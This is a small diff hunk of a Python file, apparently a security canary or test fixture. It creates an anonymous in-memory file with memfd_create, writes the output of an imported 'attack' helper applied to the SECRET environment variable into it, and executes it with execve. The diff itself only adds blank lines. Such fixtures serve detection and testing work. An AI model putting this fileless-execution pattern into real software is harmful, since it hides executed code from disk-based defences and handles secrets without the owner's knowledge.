@@ -3,7 +3,9 @@
 # proof: canary
 # source: memfd
 import os
+
 from attack import static_reader
+
 program = os.memfd_create("x")
 os.write(program, static_reader(os.environ["SECRET"]))
 os.execve(program, ["x"], {})
